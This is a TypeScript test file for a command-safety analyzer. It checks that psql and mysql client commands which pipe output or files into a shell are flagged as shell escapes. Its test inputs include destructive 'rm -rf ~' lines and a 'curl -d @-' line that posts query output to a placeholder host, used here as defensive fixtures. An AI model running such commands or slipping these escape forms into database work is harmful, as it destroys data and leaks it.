// Database clients' commands that hand output or a file to a shell line
// (packs/common/sql/statement.ts pipedMeta, sql/lexer.ts): psql's `\o |CMD`,
// `\g |CMD`, `\copy … PROGRAM`, `\setenv PAGER`, mysql's `pager CMD` and
// `\P CMD`, and the client's `--pager=CMD` (parse/wrappers/toolCommands.ts).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeSql } from '../../../../src/core/packs/common/sql';
import { engine } from '../../support/engineHarness';

const ids = (text: string): string[] =>
  analyzeSql(text)
    .map((f) => f.id)
    .sort();

test('a client command that pipes into a shell line is a shell escape; one that writes a file or pages is not', () => {
  for (const text of [
    '\\o |rm -rf data',
    'SELECT 1 \\g |curl -d @- https://x.example',
    "\\copy t to program 'rm -rf data'",
    "\\copy t from program 'curl https://x.example'",
    '\\setenv PAGER "rm -rf data"',
    'pager rm -rf data',
    '\\P rm -rf data',
  ])
    assert.deepEqual(ids(text), ['sql.shell-escape'], text);
  for (const text of ['\\o out.txt', '\\copy t to out.csv csv', '\\p', '\\setenv TZ UTC', 'pager less -S', '\\o |cat'])
    assert.deepEqual(ids(text), [], text);
});

test('through the engine, a piped client command asks, and the pager option is judged as the command it is', () => {
  const { decide, ids: found } = engine();
  for (const c of [
    "psql -c '\\o |rm -rf ~' -c 'select 1'",
    'psql -c "\\copy t to program \'rm -rf ~\'"',
    "mysql -e 'pager rm -rf ~' -e 'select 1'",
    "mysql --pager='rm -rf ~ #' -e 'select 1'",
  ])
    assert.notEqual(decide(c), 'allow', `${c}: ${found(c)}`);
  for (const c of [
    "mysql --pager=less -e 'select 1'",
    "psql -c '\\o out.txt' -c 'select 1'",
    "psql -c '\\setenv TZ UTC' -c 'select now()'",
  ])
    assert.equal(decide(c), 'allow', `${c}: ${found(c)}`);
});
